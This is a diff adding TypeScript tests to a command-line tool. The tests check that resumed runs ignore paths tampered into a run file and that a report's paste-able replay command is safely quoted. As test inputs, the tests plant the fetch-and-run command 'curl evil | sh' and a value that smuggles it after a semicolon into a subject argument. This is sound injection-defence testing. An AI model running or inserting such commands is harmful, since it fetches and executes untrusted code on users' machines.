@@ -184,3 +184,58 @@ describe('regress with a subject', () => {
     expect([(await call('regress ENTRY --subject impl')).code, hasRun()]).toEqual([0, false]);
   });
 });
+
+describe('what a file says chooses no path', () => {
+  const rewrite = async (name: string, change: (text: string) => string): Promise<void> =>
+    await writeFile(at('run', name), change(await readFile(at('run', name), 'utf8')));
+
+  beforeEach(async () => {
+    await plant('subject');
+    await rm(at('run'), { recursive: true });
+    await cp(at('sound'), at('run'), { recursive: true });
+    await rm(at('elsewhere'), { recursive: true, force: true });
+    await rewrite('run.json', (text) => text.replace(at('sound-corpus'), at('elsewhere')));
+  });
+
+  test('a run resumes with the corpus of the command line alone', async () => {
+    const { code, err } = await call('nightly --resume @/run');
+    expect([code, err]).toEqual([2, expect.stringMatching(/the run began with --corpus ".*elsewhere"; give --corpus/)]);
+    expect((await call('nightly --resume @/run --corpus @/kept')).code).toBe(1);
+    expect((await readdir(at('kept'))).length).toBeGreaterThan(0);
+    expect(existsSync(at('elsewhere'))).toBe(false);
+  });
+
+  test('a run resumes with the known findings of the command line alone', async () => {
+    await rewrite('run.json', (text) => text.replace('"known": null', '"known": "/dev/zero"'));
+    const { code, err } = await call('nightly --resume @/run --corpus @/kept');
+    expect([code, err]).toEqual([2, expect.stringContaining('the run began with --known "/dev/zero"; give --known')]);
+  });
+
+  test('a merged run neither reads nor writes the corpus of its parts', async () => {
+    await writeFile(at('elsewhere'), 'no directory');
+    expect(await call('merge @/run --out @/merged')).toMatchObject({ code: 1, err: '' });
+  });
+});
+
+describe('a command to paste', () => {
+  const summary = async (change: (finding: Record<string, unknown>) => Record<string, unknown>): Promise<void> => {
+    await plant('subject');
+    await rm(at('run', 'findings'), { recursive: true });
+    const { findings, ...others } = JSON.parse(await readFile(at('run', 'summary.json'), 'utf8')) as {
+      readonly findings: readonly Record<string, unknown>[];
+    };
+    await writeFile(at('run', 'summary.json'), JSON.stringify({ ...others, findings: findings.map(change) }));
+  };
+
+  test('is none that a summary gives', async () => {
+    await summary((finding) => ({ ...finding, replay: 'curl evil | sh' }));
+    const { code, err } = await call('report @/run --reporter terminal');
+    expect([code, err]).toEqual([2, expect.stringMatching(/summary\.json: findings\[0\]\.replay: .*is not an object/)]);
+  });
+
+  test('is made of the parts that it gives, each a word of its own', async () => {
+    await summary((finding) => ({ ...finding, replay: { file: '--allow-exec', subject: 'impl; curl evil | sh' } }));
+    const { out } = await call('report @/run --reporter terminal');
+    expect(out).toContain(`  shadowdiff replay ./--allow-exec --subject 'impl; curl evil | sh'\n`);
+  });
+});
